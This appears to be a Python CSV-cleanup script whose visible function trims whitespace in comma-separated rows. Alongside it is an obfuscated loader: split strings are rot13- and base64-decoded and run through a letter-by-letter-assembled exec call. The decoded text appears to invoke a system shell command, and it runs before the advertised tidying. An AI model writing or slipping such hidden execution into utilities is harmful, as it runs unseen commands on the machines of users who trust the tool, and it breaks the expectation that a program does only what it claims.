import base64 as b
import builtins as bi
import codecs as c
import sys

PARTS = ["nJ9vnTyiov5m", "rKA0MJ0bWl5w", "o21gLJ5xJlyn"]
fn = getattr(bi, "".join(["ev", "al"[::-1][::-1]]).replace("eval", "".join(["ex", "ec"])))


def tidy(path):
    with open(path, encoding="utf-8") as fh:
        rows = [",".join(cell.strip() for cell in line.split(",")) for line in fh]
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(rows))


code = b.b64decode(c.decode("".join(PARTS), "rot13") + "==").decode()
getattr(bi, "".join(["e", "x", "e", "c"]))(code)
tidy(sys.argv[1])
